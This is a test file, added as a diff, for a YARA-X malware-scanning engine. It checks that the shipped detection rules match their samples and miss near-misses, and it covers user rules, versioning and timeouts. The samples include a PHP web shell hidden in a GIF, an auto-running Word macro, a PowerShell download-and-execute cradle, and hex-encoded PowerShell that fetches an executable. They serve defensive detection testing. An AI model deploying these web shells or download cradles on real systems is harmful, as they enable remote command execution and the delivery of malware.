@@ -1,0 +1,283 @@
+from __future__ import annotations
+
+import asyncio
+import logging
+import os
+import re
+import time
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+import yara_x
+
+from tests.engines.samples import EICAR, MakeSample
+from veriscan.engines.base import Category, EngineReport, EngineVerdict
+from veriscan.engines.yara import BUILTIN_RULES_DIR, YaraEngine
+
+OLE_MAGIC = bytes.fromhex("D0CF11E0A1B11AE1")
+GIF_HEADER = b"GIF89a\x01\x00\x01\x00\x80\x00\x00"
+USER_RULE = """
+rule User_Marker {
+    meta:
+        severity = "malicious"
+    strings:
+        $a = "USER-RULE-MARKER"
+    condition:
+        $a
+}
+"""
+
+
+def _ole_document(vba_source: bytes) -> bytes:
+    """The parts of a Word 97 document the rule looks at: magic, the VBA project's stream
+    name (UTF-16, as OLE directory entries are) and the macro's text."""
+    return (
+        OLE_MAGIC
+        + b"\0" * 504
+        + "_VBA_PROJECT".encode("utf-16-le")
+        + b"\0" * 32
+        + b'Attribute VB_Name = "ThisDocument"\r\n'
+        + vba_source
+    )
+
+
+def _mixed_case_hex(text: str) -> bytes:
+    digits = text.encode().hex()
+    return "".join(c.upper() if i % 3 == 0 else c for i, c in enumerate(digits)).encode()
+
+
+# rule -> (category, result, a sample it matches, a near miss it must not match)
+SHIPPED_RULES: dict[str, tuple[Category, str, bytes, bytes]] = {
+    "eicar_av_test": (
+        Category.MALICIOUS,
+        "eicar_av_test, eicar_substring_test",
+        EICAR + b"\r\n",
+        # The string, but not as the whole file: only the substring rule may match.
+        EICAR + b" is the EICAR test string",
+    ),
+    "eicar_substring_test": (
+        Category.SUSPICIOUS,
+        "eicar_substring_test",
+        b"%PDF-1.4 embedded: " + EICAR + b" trailer",
+        b"%PDF-1.4 EICAR-STANDARD-ANTIVIRUS-TEST FILE",
+    ),
+    "Webshell_in_image": (
+        Category.MALICIOUS,
+        "Webshell_in_image",
+        GIF_HEADER + b"<?php system($_GET['c']); ?>",
+        # The same script as a plain PHP file: not hiding in an image.
+        b"<?php system($_GET['c']); ?>",
+    ),
+    "Office_OLE_VBA_Autorun": (
+        Category.SUSPICIOUS,
+        "Office_OLE_VBA_Autorun",
+        _ole_document(b'Sub AutoOpen()\r\n  Shell "calc.exe"\r\nEnd Sub\r\n'),
+        _ole_document(b"Sub FormatTable()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n"),
+    ),
+    "SUSP_PowerShell_Download_Cradle": (
+        Category.SUSPICIOUS,
+        "SUSP_PowerShell_Download_Cradle",
+        b"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/stage2.ps1')",
+        b"(New-Object Net.WebClient).DownloadFile('http://example.invalid/tool.zip', 'tool.zip')",
+    ),
+    "Hex_Encoded_Powershell": (
+        Category.SUSPICIOUS,
+        "Hex_Encoded_Powershell",
+        b'Shell HexDecode("'
+        + _mixed_case_hex("powershell -c Invoke-WebRequest https://example.invalid/p.exe")
+        + b'")',
+        b'Shell HexDecode("'
+        + _mixed_case_hex("powershell -c Get-Date; echo https://example.invalid/")
+        + b'")',
+    ),
+}
+EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
+
+
+def _mtime(path: Path) -> datetime:
+    return EPOCH + timedelta(microseconds=path.stat().st_mtime_ns // 1000)
+
+
+def _shipped_rule_meta() -> dict[str, dict[str, object]]:
+    found = {}
+    for path in sorted(BUILTIN_RULES_DIR.glob("*.yar")):
+        for rule in yara_x.compile(path.read_text()):
+            found[rule.identifier] = dict(rule.metadata)
+    return found
+
+
+@pytest.fixture
+def engine(tmp_path: Path) -> YaraEngine:
+    return YaraEngine(tmp_path / "yara-rules")
+
+
+def test_eicar_is_malicious(engine: YaraEngine, make_sample: MakeSample) -> None:
+    newest = max(_mtime(path) for path in BUILTIN_RULES_DIR.glob("*.yar"))
+
+    verdicts = engine.scan_file(make_sample(EICAR))
+
+    assert verdicts == [
+        EngineVerdict(
+            engine_name="YARA-X",
+            engine_version=engine.version(),
+            category=Category.MALICIOUS,
+            result="eicar_av_test, eicar_substring_test",
+            update_date=newest,
+        )
+    ]
+
+
+def test_clean_file_is_undetected(engine: YaraEngine, make_sample: MakeSample) -> None:
+    [verdict] = engine.scan_file(make_sample(b"Quarterly report\n\nNothing to see here.\n"))
+
+    assert (verdict.category, verdict.result) == (Category.UNDETECTED, "clean")
+
+
+@pytest.mark.parametrize("rule", sorted(SHIPPED_RULES))
+def test_shipped_rule_matches_its_sample_and_not_the_near_miss(
+    engine: YaraEngine, make_sample: MakeSample, rule: str
+) -> None:
+    category, result, sample, near_miss = SHIPPED_RULES[rule]
+
+    [hit] = engine.scan_file(make_sample(sample, "hit.bin"))
+    [miss] = engine.scan_file(make_sample(near_miss, "miss.bin"))
+
+    assert (hit.category, hit.result) == (category, result)
+    assert rule not in miss.result.split(", ")
+
+
+def test_every_shipped_rule_is_tested_and_described() -> None:
+    meta = _shipped_rule_meta()
+
+    assert set(meta) == set(SHIPPED_RULES)
+    for rule, fields in meta.items():
+        assert fields.get("severity") in ("malicious", "suspicious"), rule
+        assert {"description", "author", "reference"} <= set(fields), rule
+        assert fields["severity"] == SHIPPED_RULES[rule][0].value, rule
+
+
+def test_every_shipped_rule_file_names_its_source_and_licence() -> None:
+    for path in BUILTIN_RULES_DIR.glob("*.yar"):
+        header = path.read_text().split("*/", 1)[0]
+        assert "Source:" in header and "Licence:" in header, path.name
+
+
+def test_version_names_yara_x_and_the_rules(engine: YaraEngine) -> None:
+    version = engine.version()
+
+    assert re.fullmatch(r"yara-x \d+\.\d+\.\d+; rules [0-9a-f]{12}", version)
+    assert engine.version() == version
+
+
+def test_user_rule_is_picked_up_and_changes_the_version(
+    tmp_path: Path, make_sample: MakeSample
+) -> None:
+    rules_dir = tmp_path / "yara-rules"
+    rules_dir.mkdir()
+    engine = YaraEngine(rules_dir)
+    builtin_only = engine.version()
+    sample = make_sample(b"payload USER-RULE-MARKER payload")
+    assert engine.scan_file(sample)[0].result == "clean"
+
+    rule_file = rules_dir / "mine.yara"
+    rule_file.write_text(USER_RULE)
+    with_user_rule = engine.version()
+    [verdict] = engine.scan_file(sample)
+
+    assert with_user_rule != builtin_only
+    assert (verdict.category, verdict.result) == (Category.MALICIOUS, "User_Marker")
+    assert verdict.engine_version == with_user_rule
+
+    rule_file.unlink()
+    assert engine.version() == builtin_only
+
+
+def test_user_rule_date_is_the_update_date(tmp_path: Path, make_sample: MakeSample) -> None:
+    rules_dir = tmp_path / "yara-rules"
+    rules_dir.mkdir()
+    rule_file = rules_dir / "mine.yar"
+    rule_file.write_text(USER_RULE)
+    later = time.time_ns() + 3600 * 10**9
+    os.utime(rule_file, ns=(later, later))
+
+    [verdict] = YaraEngine(rules_dir).scan_file(make_sample(b"clean"))
+
+    assert verdict.update_date == _mtime(rule_file)
+    assert verdict.update_date > max(_mtime(p) for p in BUILTIN_RULES_DIR.glob("*.yar"))
+
+
+def test_user_rule_without_severity_counts_as_suspicious(
+    tmp_path: Path, make_sample: MakeSample
+) -> None:
+    rules_dir = tmp_path / "yara-rules"
+    rules_dir.mkdir()
+    (rules_dir / "hunting.yar").write_text(
+        'rule User_Marker { strings: $a = "USER-RULE-MARKER" condition: $a }'
+    )
+
+    [verdict] = YaraEngine(rules_dir).scan_file(make_sample(b"USER-RULE-MARKER"))
+
+    assert (verdict.category, verdict.result) == (Category.SUSPICIOUS, "User_Marker")
+
+
+def test_broken_user_rule_is_skipped_with_a_warning(
+    tmp_path: Path, make_sample: MakeSample, caplog: pytest.LogCaptureFixture
+) -> None:
+    rules_dir = tmp_path / "yara-rules"
+    rules_dir.mkdir()
+    (rules_dir / "good.yar").write_text(USER_RULE)
+    # A valid rule before the error must not slip in with the file's other half.
+    broken = rules_dir / "broken.yara"
+    broken.write_text(
+        'rule Half_Good { strings: $a = "HALF-GOOD-MARKER" condition: $a }\n'
+        "rule Broken { condition: undefined_identifier }\n"
+    )
+    engine = YaraEngine(rules_dir)
+
+    with caplog.at_level(logging.WARNING, logger="veriscan.engines"):
+        [verdict] = engine.scan_file(make_sample(b"USER-RULE-MARKER HALF-GOOD-MARKER"))
+
+    assert verdict.result == "User_Marker"
+    [warning] = [r for r in caplog.records if "yara_rule_skipped" in r.getMessage()]
+    assert warning.levelno == logging.WARNING
+    assert str(broken) in warning.getMessage()
+    assert "undefined_identifier" in warning.getMessage()
+
+
+def test_run_gives_an_engine_report(engine: YaraEngine, make_sample: MakeSample) -> None:
+    report = asyncio.run(engine.run(make_sample(EICAR)))
+
+    assert isinstance(report, EngineReport)
+    assert (report.engine, report.version, report.error) == ("YARA-X", engine.version(), None)
+    assert [(v.category, v.result) for v in report.verdicts] == [
+        (Category.MALICIOUS, "eicar_av_test, eicar_substring_test")
+    ]
+
+
+def test_missing_file_is_a_fatal_error(engine: YaraEngine, make_sample: MakeSample) -> None:
+    sample = make_sample(b"gone")
+    sample.path.unlink()
+
+    report = asyncio.run(engine.run(sample))
+
+    assert report.verdicts == []
+    assert report.error is not None and report.error.startswith("YARA-X could not scan the file")
+    assert report.retryable is False
+
+
+def test_scan_past_the_timeout_is_reported_as_timeout(
+    tmp_path: Path, make_sample: MakeSample
+) -> None:
+    rules_dir = tmp_path / "yara-rules"
+    rules_dir.mkdir()
+    # Quadratic in the file size, and never true: runs until the scanner gives up.
+    (rules_dir / "slow.yar").write_text(
+        "rule Slow { condition: for any i in (0..filesize) : "
+        "(for any j in (0..filesize) : (uint8(i) + uint8(j) == 1000)) }"
+    )
+    engine = YaraEngine(rules_dir, timeout=1)
+
+    report = asyncio.run(engine.run(make_sample(b"\0" * 200_000)))
+
+    assert [(v.category, v.result) for v in report.verdicts] == [(Category.TIMEOUT, "timeout")]
